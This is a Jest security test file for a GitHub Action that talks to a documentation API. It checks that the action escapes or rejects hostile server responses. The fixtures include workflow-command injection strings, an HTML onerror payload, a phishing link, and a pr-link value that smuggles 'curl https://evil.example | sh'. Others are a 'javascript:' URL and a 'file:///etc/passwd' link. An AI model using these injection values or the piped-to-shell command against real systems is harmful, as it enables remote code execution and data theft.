// The built action against a hostile or compromised API (or a man in the middle): every class of
// server text that once reached a log line, the job summary, the bot's reply or an output.
import { afterEach, describe, expect, it } from '@jest/globals'
import { startEmulator, type Emulator, type Fault } from '../../emulator/server.js'
import { runAction, type ActionRun } from '../../__fixtures__/run-action.js'
import { startServer, type TestServer } from '../../__fixtures__/http.js'
import { expectOnlyMasked } from '../../__fixtures__/secrets.js'

let emulator: Emulator | undefined
let server: TestServer | undefined
afterEach(async () => {
  await emulator?.close()
  await server?.close()
  emulator = undefined
  server = undefined
})

/** The workflow commands the action itself issues; anything else at a line start was injected. */
const OWN_COMMANDS = new Set([
  'add-mask',
  'error',
  'warning',
  'notice',
  'debug',
  'group',
  'endgroup'
])

/** Lines the runner would take as a command (it trims blanks first), with the command's name. */
function commands(stdout: string): { name: string; line: string }[] {
  return stdout
    .split(/\r\n|\r|\n/)
    .filter((line) => /^\s*(::|##\[)/.test(line))
    .map((line) => ({ name: /^\s*(?:::|##\[)([\w-]+)/.exec(line)?.[1] ?? '', line }))
}

function expectNoInjectedCommand(run: ActionRun, payload: string): void {
  for (const { name, line } of commands(run.stdout)) {
    expect(OWN_COMMANDS.has(name)).toBe(true)
    // An own ::error:: may quote the hostile text, but only escaped inside its one line.
    expect(line.trimStart().startsWith(`::${payload}`)).toBe(false)
  }
}

const HOSTILE = 'x\n::stop-commands::pwned\n::error::pwned\n##[warning]pwned'

async function exportRun(faults: Fault[], inputs: Record<string, string> = {}): Promise<ActionRun> {
  emulator = await startEmulator({ faults, export: { durationMs: 300 }, contract: false })
  return runAction({
    inputs: {
      mode: 'export',
      'api-key': emulator.apiKey,
      'base-url': emulator.url,
      domain: 'docs.example.com',
      'poll-interval': '0.2s',
      ...inputs
    }
  })
}

const now = new Date().toISOString()
const exportJob = (fields: Record<string, unknown>): Record<string, unknown> => ({
  jobId: 'se_1',
  status: 'running',
  progress: 50,
  pageCount: 3,
  createdAt: now,
  updatedAt: now,
  ...fields
})

describe('workflow commands in server text', () => {
  it('a retried 503 whose error holds ::stop-commands:: cannot stop the masking of the link', async () => {
    const run = await exportRun([
      { route: 'export.get', kind: 'status', status: 503, body: { error: HOSTILE } }
    ])
    expect(run.code).toBe(0)
    expectNoInjectedCommand(run, 'stop-commands')
    expectNoInjectedCommand(run, 'error::pwned')
    expect(run.stdout).toContain('\\u000a::stop-commands::pwned')
    // The presigned link is masked, and its signature shows nowhere but in ::add-mask::.
    const link = run.outputs['bundle-url'] as string
    expect(run.stdout).toContain(`::add-mask::${link}`)
    expectOnlyMasked(run.stdout + run.stderr, new URL(link).search)
  })

  it.each([
    ['a status', { status: HOSTILE }],
    ['a job id', { jobId: 'se_1\n::error::pwned' }],
    ['a page count that is text', { pageCount: '3\n::error::pwned' }],
    ['an expiry date', { status: 'completed', expiresAt: '2026\n::error::pwned' }]
  ])('%s with a line break stops the step, naming the field and the job', async (_, fields) => {
    const run = await exportRun([
      { route: 'export.get', kind: 'status', status: 200, body: exportJob(fields), times: 5 }
    ])
    expect(run.code).not.toBe(0)
    expectNoInjectedCommand(run, 'error::pwned')
    expect(run.stdout).toMatch(
      /::error::The API's answer for static export job se_\w+ does not match the published contract/
    )
    expect(run.outputs['bundle-url']).toBeUndefined()
  })

  it('a status of 100 000 nested lists is named, not a stack overflow', async () => {
    const nested = '['.repeat(100_000) + ']'.repeat(100_000)
    server = await startServer((_req, res) => {
      res.writeHead(201, { 'content-type': 'application/json' })
      res.end(`{"id":"job_1","status":${nested}}`)
    })
    const run = await runAction({
      inputs: {
        mode: 'agent',
        'api-key': 'mint_test',
        'base-url': server.url,
        'project-id': 'proj_1',
        prompt: 'Document it'
      }
    })
    expect(run.code).not.toBe(0)
    expect(run.stdout).toContain(
      'the new agent job does not match the published contract: status is a list'
    )
    expect(run.stdout + run.stderr).not.toContain('Maximum call stack')
  })
})

describe('markup in server text', () => {
  it('the summary renders a failed export’s error as text, with no blank line to end the table', async () => {
    const error =
      '<img src=x onerror=alert(1)>\n\n[Re-authenticate here](https://evil.example/login)'
    const run = await exportRun([
      {
        route: 'export.get',
        kind: 'status',
        status: 200,
        body: exportJob({ status: 'failed', error }),
        times: 5
      }
    ])
    expect(run.code).not.toBe(0)
    expect(run.summary).not.toContain('<img')
    expect(run.summary).toContain('&#60;img src=x')
    expect(run.summary).not.toMatch(/\n\s*\n/)
    expectNoInjectedCommand(run, 'error::pwned')
  })
})

describe('outputs', () => {
  it.each([
    [
      'a shell payload',
      'https://github.com/acme/docs/pull/1"; curl https://evil.example | sh; echo "'
    ],
    ['a javascript: link', 'javascript:alert(1)'],
    ['a link with credentials', 'https://user:pass@github.com/acme/docs/pull/1'],
    ['two lines', 'https://github.com/acme/docs/pull/1\nhttps://evil.example']
  ])('pr-link refuses %s: the step fails and the output stays empty', async (_, prLink) => {
    emulator = await startEmulator({ contract: false, agent: { durationMs: 100 } })
    emulator.addFault({
      route: 'agent.get',
      kind: 'status',
      status: 200,
      times: 20,
      body: { id: 'job_1', status: 'completed', prLink }
    })
    const run = await runAction({
      inputs: {
        mode: 'agent',
        'api-key': emulator.apiKey,
        'base-url': emulator.url,
        'project-id': 'proj_1',
        prompt: 'Document it',
        'poll-interval': '0.2s'
      }
    })
    expect(run.code).not.toBe(0)
    expect(run.stdout).toMatch(/prLink is .*not an https URL/)
    expect(run.outputs['pr-link'] ?? '').toBe('')
  })

  it('a valid pull request link passes, in its normalised form', async () => {
    emulator = await startEmulator({ contract: false, agent: { durationMs: 100 } })
    const run = await runAction({
      inputs: {
        mode: 'agent',
        'api-key': emulator.apiKey,
        'base-url': emulator.url,
        'project-id': 'proj_1',
        prompt: 'Document it',
        'poll-interval': '0.2s'
      }
    })
    expect(run.code).toBe(0)
    expect(run.outputs['pr-link']).toBe('https://github.com/acme/docs/pull/42')
  })
})

describe('answer size', () => {
  it('stops reading an answer of 500 MB at 1 MiB and says so', async () => {
    let sent = 0
    server = await startServer((_req, res) => {
      res.writeHead(201, { 'content-type': 'application/json' })
      const piece = Buffer.alloc(1024 * 1024, 0x5b) // '['
      const pump = (): void => {
        while (sent < 500 * 1024 * 1024) {
          sent += piece.length
          if (!res.write(piece)) {
            res.once('drain', pump)
            return
          }
        }
        res.end()
      }
      res.on('close', () => res.removeAllListeners('drain'))
      pump()
    })
    const run = await runAction({
      inputs: {
        mode: 'agent',
        'api-key': 'mint_test',
        'base-url': server.url,
        'project-id': 'proj_1',
        prompt: 'Document it'
      }
    })
    expect(run.code).not.toBe(0)
    expect(run.stdout).toMatch(/answer \(HTTP 201\) is larger than 1024 KiB/)
    // The client hung up after its cap: only what the socket buffers took was ever sent.
    expect(sent).toBeLessThan(64 * 1024 * 1024)
  })
})

describe('bundle links and sizes', () => {
  it('refuses a bundle link that is not http(s) at once, without retrying', async () => {
    const run = await exportRun([
      {
        route: 'export.bundle',
        kind: 'status',
        status: 200,
        body: { jobId: 'se_1', bundleUrl: 'file:///etc/passwd', sizeBytes: 10, expiresAt: now }
      }
    ])
    expect(run.code).not.toBe(0)
    expect(run.stdout).toMatch(/bundleUrl is 'file:\/\/\/etc\/passwd', not an https or http URL/)
    expect(run.stdout).not.toMatch(/Trying again/)
  })

  it('refuses a bundle that unpacks past max-unpacked-size, naming the input', async () => {
    const run = await exportRun([], { 'max-unpacked-size': '100B' })
    expect(run.code).not.toBe(0)
    expect(run.stdout).toMatch(/unpacks to more than 100 B, the limit set by max-unpacked-size/)
    expect(run.outputs['extract-path']).toBeUndefined()
  })
})
